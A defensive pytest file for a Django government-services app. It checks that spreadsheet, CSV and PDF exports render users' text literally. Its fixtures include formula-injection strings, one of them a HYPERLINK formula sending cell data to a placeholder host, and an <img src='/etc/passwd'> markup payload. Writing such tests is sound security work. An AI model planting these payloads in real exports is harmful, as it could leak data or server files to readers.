"""Exports that users' text cannot turn against their readers: a name starting with `=`,
`+`, `-`, `@` or a tab is text in every XLSX and CSV (never a formula), and a name holding
`<b>` or `<img src=…>` is literal text in every PDF (never markup, never a server file)."""

import csv
import io
import os
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import safe_cell
from feedback.domain import elements_for, survey_submit
from feedback.models import Channel, Gender, Occupation, SurveyElement
from feedback.report import Period
from licensing import domain, issuance, retribusi
from org.models import Role
from planning.models import Budget, RumpunSet
from tests import factories
from tests.licensing_fixtures import *  # noqa: F403 - fixtures
from tests.licensing_fixtures import PASSPHRASE, pdf

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[1]
HAS_PDFTOTEXT = shutil.which("pdftotext") is not None

LINK = '=HYPERLINK("http://contoh.test/?d="&A1,"Klik")'
BOLD = "Dinas <b>Tebal</b> & Co"
IMAGE = '<img src="/etc/passwd" width="300" height="300"/>'


SKIPPED = {".venv", ".tools", ".git", "tests", "var", "node_modules", "static", "locale"}


def project_modules() -> list[tuple[str, str]]:
    """(path, source) of the project's own Python modules, tests and migrations aside."""
    found = []
    for folder, subfolders, files in os.walk(ROOT):
        subfolders[:] = sorted(d for d in subfolders if d not in SKIPPED and d != "migrations")
        for name in sorted(files):
            if name.endswith(".py"):
                path = Path(folder) / name
                found.append((path.relative_to(ROOT).as_posix(), path.read_text(encoding="utf-8")))
    return sorted(found)


def pdf_text(content: bytes) -> str:
    """The text of a PDF as poppler reads it, lines joined by spaces."""
    out = subprocess.run(  # noqa: S603 - poppler's pdftotext on our own file
        [shutil.which("pdftotext"), "-", "-"], input=content, capture_output=True, check=True
    ).stdout.decode()
    return " ".join(out.split())


def streamed(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def workbook_cells(content: bytes) -> dict[str, list]:
    """Every non-empty cell of every sheet: (value, data_type) by sheet title."""
    workbook = load_workbook(io.BytesIO(content))
    return {
        sheet.title: [
            (cell.value, cell.data_type)
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        for sheet in workbook.worksheets
    }


# The one function --------------------------------------------------------------------------


def test_safe_cell_quotes_formula_starts_and_keeps_numbers_and_dates():
    import datetime

    values = [
        "=1+2",
        "+62 812",
        "-5",
        "@SUM(A1)",
        "\t=cmd",
        "\r=cmd",
        "\x00=cmd",
        "\uff1dSUM(1)",
        "Dinas Kesehatan",
        "a=b",
        "",
        "-",
        None,
        -5,
        Decimal("-1.50"),
        1.5,
        datetime.date(2027, 1, 2),
        True,
    ]
    assert [safe_cell(v) for v in values] == [
        "'=1+2",
        "'+62 812",
        "'-5",
        "'@SUM(A1)",
        "'\t=cmd",
        "'\r=cmd",
        "'=cmd",  # NUL cannot be written to XLSX; what it hid is then quoted
        "'\uff1dSUM(1)",
        "Dinas Kesehatan",
        "a=b",
        "",
        "-",
        None,
        -5,
        Decimal("-1.50"),
        1.5,
        datetime.date(2027, 1, 2),
        True,
    ]


WRITER = re.compile(
    r"Workbook\(|csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|xlsxwriter|odf\."
)
# Writers of files nobody downloads, each with its reason.
NOT_EXPORTS = {
    "demo/planning.py": "the demo's budget CSV, imported at once by the demo itself",
    "bench/planning.py": "benchmark input files, written and imported by the benchmark",
}


def test_every_spreadsheet_and_csv_writer_goes_through_safe_cell():
    """A new export that writes cells without safe_cell fails here."""
    writers, unsafe = [], []
    for relative, source in project_modules():
        if not WRITER.search(source) or relative in NOT_EXPORTS:
            continue
        writers.append(relative)
        if "from core.exports import safe_cell" not in source:
            unsafe.append(relative)
    assert unsafe == []
    assert writers == [
        "feedback/exports.py",
        "planning/export.py",
        "planning/reports.py",
    ]


def test_only_core_pdf_writes_paragraph_markup():
    """Paragraph markup is made in one place, which escapes what it is given: any other
    module building a Paragraph from users' text fails here."""
    builders = [
        relative for relative, source in project_modules() if re.search(r"\bParagraph\(", source)
    ]
    assert builders == ["core/pdf.py"]


# Planning ----------------------------------------------------------------------------------


def _post_budget(client, codes, text):
    return client.post(
        reverse("backoffice:budget_upload"),
        {
            "b-year": "2027",
            "b-stage": "apbd",
            "b-nomenclature": codes.pk,
            "b-file": SimpleUploadedFile("apbd.csv", text.encode()),
        },
    )


@pytest.fixture
def budget(client, planner, codes, dinkes, dpupr, dishub):
    client.force_login(planner)
    _post_budget(
        client,
        codes,
        "kode_skpd,kode_sub_unit,kode_sub_kegiatan,kode_rekening,nama_sumber_dana,pagu\n"
        '1.02.0.00.0.00.01.0000,-1+1,1.02.02.2.01.0001,5.1.02.01.01.0024,"@SUM(1,2)",100\n'
        '1.03.1.04.0.00.01.0000,,1.03.03.2.01.0001,5.2.03.01.01.0001,"\t=1+1",200\n'
        "2.15.0.00.0.00.01.0000,,1.03.03.2.01.0001,5.1.01.01.01.0001,DAU,60\n",
    )
    client.post(reverse("backoffice:preset_create"))
    return Budget.objects.get()


def _scenario(client, budget, name, *, kind="scenario") -> RumpunSet:
    preset = RumpunSet.objects.get(kind="preset")
    client.post(
        reverse("backoffice:scenario_create", args=[budget.pk]),
        {"set": preset.pk, "name": name, "kind": kind},
    )
    return RumpunSet.objects.get(name=name)


def _new_rumpun_with(client, budget, scenario, name, agency):
    """A rumpun added to the scenario by its page's form, with an agency moved into it."""
    client.post(
        reverse("backoffice:scenario_rumpun_add", args=[budget.pk, scenario.pk]), {"r-name": name}
    )
    client.post(
        reverse("backoffice:scenario_move", args=[budget.pk, scenario.pk]),
        {"m-agency": agency.pk, "m-to": scenario.rumpun.get(name=name).pk, "m-weight": "1"},
    )


def test_the_comparison_xlsx_keeps_formula_names_as_text(client, budget, dishub):
    scenario = _scenario(client, budget, LINK)
    own = _scenario(client, budget, "+SUM(1+1)", kind="custom")
    _new_rumpun_with(client, budget, scenario, "-2+3", dishub)
    client.post(
        reverse("backoffice:rule_add"),
        {"c-name": "@SUM(A1)", "c-akun_group": "Belanja modal", "c-max_share": "1"},
    )
    query = f"?set={scenario.pk}&set={own.pk}&format=xlsx"
    response = client.get(reverse("backoffice:compare", args=[budget.pk]) + query)
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    summary, detail = workbook.worksheets
    rows = {row[0].value: row[1:] for row in summary.iter_rows(min_row=2)}
    assert [(c.value, c.data_type) for c in rows["Ukuran"]] == [
        ("'" + LINK, "s"),
        ("'+SUM(1+1)", "s"),
    ]
    assert [(c.value, c.data_type) for c in rows["Batasan yang dilanggar"]] == [
        ("'@SUM(A1)", "s"),
        ("'@SUM(A1)", "s"),
    ]
    placed = [(r[0].value, r[1].value, r[1].data_type) for r in detail.iter_rows(min_row=2)]
    assert ("'" + LINK, "'-2+3", "s") in placed
    assert [
        (title, value)
        for title, cells in workbook_cells(response.content).items()
        for value, kind in cells
        if kind == "f"
    ] == []


def test_the_fiscal_data_package_csv_keeps_formula_fields_as_text(client, budget, dinkes):
    dinkes.name = "=1+2 Dinas Kesehatan"
    dinkes.save()
    response = client.get(reverse("backoffice:budget_fdp", args=[budget.pk]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        table = archive.read("anggaran.csv").decode()
    rows = list(csv.DictReader(io.StringIO(table)))
    assert [
        (row["nama_skpd"], row["kode_sub_unit"], row["sumber_dana"], row["pagu"]) for row in rows
    ] == [
        ("'=1+2 Dinas Kesehatan", "'-1+1", "'@SUM(1,2)", "100.00"),
        ("Dinas Pekerjaan Umum dan Penataan Ruang", "", "'=1+1", "200.00"),  # tab trimmed
        ("Dinas Perhubungan", "", "DAU", "60.00"),
    ]


def test_the_comparison_pdf_shows_markup_in_names_as_text(client, budget, region, dishub):
    region.name = "Kota <b>Uji"
    region.save()
    scenario = _scenario(client, budget, BOLD)
    _new_rumpun_with(client, budget, scenario, IMAGE, dishub)
    preset = RumpunSet.objects.get(kind="preset")
    query = f"?set={preset.pk}&set={scenario.pk}&format=pdf"
    response = client.get(reverse("backoffice:compare", args=[budget.pk]) + query)
    assert (response.status_code, response.content[:5]) == (200, b"%PDF-")
    assert b"/Subtype /Image" not in response.content
    if HAS_PDFTOTEXT:
        text = pdf_text(response.content)
        assert "Kota <b>Uji" in text
        assert BOLD in text
        assert IMAGE in text


# Satisfaction survey (IKM) -----------------------------------------------------------------


def _ikm_report(client, region, reklame, fmt):
    elements_for(region)
    for _ in range(2):
        survey_submit(
            region=region,
            service=reklame,
            channel=Channel.KIOSK,
            answers={f"U{n}": 3 for n in range(1, 10)},
            gender=Gender.FEMALE,
            education="d4_s1",
            occupation=Occupation.ENTREPRENEUR,
        )
    client.force_login(
        factories.make_staff("walikota", reklame.responsible_agency, Role.LEADERSHIP)
    )
    period = Period.containing(region.today())
    query = f"?service={reklame.pk}&kind=tahun&year={period.year}&number=1&format={fmt}"
    return client.get(reverse("backoffice:skm_report") + query)


def test_the_ikm_xlsx_keeps_formula_names_as_text(client, region, reklame):
    reklame.name = "@SUM(1+1) Izin Reklame"
    reklame.save()
    elements_for(region)
    SurveyElement.objects.filter(region=region, code="U3").update(name="-1+1 Waktu")
    response = _ikm_report(client, region, reklame, "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = {row[0].value: row[1:] for row in sheet.iter_rows() if row[0].value}
    assert (rows["Cakupan"][0].value, rows["Cakupan"][0].data_type) == (
        "'@SUM(1+1) Izin Reklame",
        "s",
    )
    assert (rows["U3"][0].value, rows["U3"][0].data_type) == ("'-1+1 Waktu", "s")


def test_the_ikm_pdf_shows_markup_in_names_as_text(client, region, reklame):
    region.name = "Kota <b>Uji"
    region.save()
    reklame.name = IMAGE
    reklame.save()
    response = _ikm_report(client, region, reklame, "pdf")
    assert (response.status_code, response.content[:5]) == (200, b"%PDF-")
    assert b"/Subtype /Image" not in response.content
    if HAS_PDFTOTEXT:
        text = pdf_text(response.content)
        assert "Kota <b>Uji" in text
        assert IMAGE in text


# Permit and SKRD ---------------------------------------------------------------------------


def test_the_permit_pdf_shows_markup_in_names_as_text(
    client,
    parkir,
    siti,
    applicant,
    front_office,
    reviewer_dpupr,
    reviewer_dishub,
    signing_official,
    signing_key,
):
    siti.name = BOLD
    siti.save()
    application = domain.application_start(owner=applicant, person=siti, service=parkir)
    domain.application_fill(
        application=application,
        actor=applicant,
        values={"lokasi": IMAGE, "luas_m2": "120"},
        attachments={r: pdf() for r in application.service_version.requirement_list()},
    )
    application, _pin = domain.application_submit(application=application, actor=applicant)
    domain.application_accept(task=application.tasks.get(stage=1), actor=front_office)
    for task, reviewer in zip(
        application.tasks.filter(stage=2).order_by("pk"),
        [reviewer_dpupr, reviewer_dishub],
        strict=True,
    ):
        domain.review_recommend(task=task, actor=reviewer, approve=True)
    domain.application_decide(
        task=application.tasks.get(stage=3), actor=signing_official, approve=True
    )
    permit = issuance.permit_issue(
        task=application.tasks.get(stage=4), actor=signing_official, passphrase=PASSPHRASE
    )
    client.force_login(applicant)
    response = client.get(reverse("portal:permit_download", args=[permit.pk]))
    content = streamed(response)
    assert (response.status_code, content[:5]) == (200, b"%PDF-")
    if HAS_PDFTOTEXT:
        text = pdf_text(content)
        assert BOLD in text
        assert IMAGE in text


def test_the_skrd_pdf_shows_markup_in_names_as_text(
    client, reklame, siti, applicant, front_office, reviewer_dpupr, signing_official, treasurer
):
    siti.name = BOLD
    siti.save()
    reklame.name = IMAGE
    reklame.save()
    application = domain.application_start(owner=applicant, person=siti, service=reklame)
    domain.application_fill(
        application=application,
        actor=applicant,
        values={"naskah": "Toko Roti Ijen"},
        attachments={r: pdf() for r in application.service_version.requirement_list()},
    )
    application, _pin = domain.application_submit(application=application, actor=applicant)
    domain.application_accept(task=application.tasks.get(stage=1), actor=front_office)
    domain.review_recommend(task=application.tasks.get(stage=2), actor=reviewer_dpupr, approve=True)
    domain.application_decide(
        task=application.tasks.get(stage=3), actor=signing_official, approve=True
    )
    bill = retribusi.bill_issue(task=application.tasks.get(stage=4), actor=treasurer)
    client.force_login(applicant)
    response = client.get(reverse("bill_download", args=[bill.pk]))
    content = streamed(response)
    assert (response.status_code, content[:5]) == (200, b"%PDF-")
    if HAS_PDFTOTEXT:
        text = pdf_text(content)
        assert BOLD in text
        assert IMAGE in text
